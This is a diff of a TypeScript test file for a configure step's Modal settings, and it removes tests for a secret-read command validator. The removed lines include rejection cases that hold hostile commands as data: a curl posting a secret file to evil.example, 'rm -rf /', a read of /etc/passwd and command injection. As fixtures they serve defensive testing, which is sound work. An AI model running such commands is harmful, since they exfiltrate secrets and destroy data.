@@ -1,11 +1,5 @@
 /** The configure step's pure rules. */
-import {
-  APP_NAME,
-  appState,
-  modalSecretCommand,
-  parseModalApps,
-  secretReadArgs,
-} from '../../../../shared/modal/modal-config';
+import { APP_NAME, appState, modalSecretCommand, parseModalApps } from '../../../../shared/modal/modal-config';
 
 it('parses MODAL_APPS with optional control URLs, MODAL_CONTROL_URL serving the rest', () => {
   expect(parseModalApps(' a , b=https://b.example ,', 'https://default.example')).toEqual([
@@ -73,33 +67,6 @@ it('names the cause of a failure', () => {
     state: 'failing',
     reason: 'wrong secret: the app refused our signed request (401)',
   });
-});
-
-it.each([
-  ['printenv MODAL_WEBHOOK_SECRET', ['printenv', 'MODAL_WEBHOOK_SECRET']],
-  ["cat '/work/main/.data/secret'", ['cat', '--', '/work/main/.data/secret']],
-  [
-    'gcloud secrets versions access 3 --secret=omtx-webhook-secret --project=omtx-prod-1',
-    ['gcloud', 'secrets', 'versions', 'access', '3', '--secret=omtx-webhook-secret', '--project=omtx-prod-1'],
-  ],
-  [
-    'gcloud secrets versions access latest --secret=s --project=my-project',
-    ['gcloud', 'secrets', 'versions', 'access', 'latest', '--secret=s', '--project=my-project'],
-  ],
-])('runs the secret read command %s as an argument vector', (command, args) => {
-  expect(secretReadArgs(command)).toEqual(args);
-});
-
-it.each([
-  'printenv S; curl https://evil.example -d @.data/secret',
-  'printenv $(id)',
-  'cat /etc/passwd && true',
-  "cat '/x'; rm -rf /",
-  'gcloud secrets versions access 3 --secret=s --project=p --impersonate-service-account=x',
-  'bash -c "printenv S"',
-  '',
-])('refuses any other secret read command: %j', (command) => {
-  expect(secretReadArgs(command)).toBeUndefined();
 });
 
 it.each([
